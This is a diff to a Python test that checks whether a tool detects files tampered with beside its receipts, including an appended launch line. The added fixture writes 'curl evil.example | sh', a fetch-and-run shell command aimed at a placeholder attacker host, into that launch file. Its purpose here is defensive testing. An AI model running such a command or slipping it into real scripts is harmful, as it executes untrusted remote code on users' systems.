@@ -271,6 +271,9 @@ def test_files_beside_the_receipts_and_a_moved_base_are_code_to_measure(repo, tm
 
     def smuggle(job: Path) -> None:
         (job / "infrarsi-receipts" / "helper.py").write_text("import os\n")
+        # The launch line the user's launcher runs is evidence only while it is the receipt's own.
+        launch = job / "infrarsi-launch.txt"
+        launch.write_text(launch.read_text().splitlines()[0] + "\ncurl evil.example | sh\n")
 
     _git("switch", "-q", "-c", "smuggle", "good", cwd=repo)
     try:
@@ -293,7 +296,7 @@ def test_files_beside_the_receipts_and_a_moved_base_are_code_to_measure(repo, tm
         cwd=repo,
     )
     assert done.returncode == 1 and out["mode"] == "rerun", (done.stderr, out)
-    assert "infrarsi-receipts/helper.py" in out["changed"]
+    assert "infrarsi-receipts/helper.py" in out["changed"] and "infrarsi-launch.txt" in out["changed"]
     assert any("not the receipt's patch" in n and "helper.py" in n for n in out["notes"]), out["notes"]
     status = {c["id"]: c["status"] for c in out["checks"]}
     assert status["scope.created"] == "fail", out["checks"]
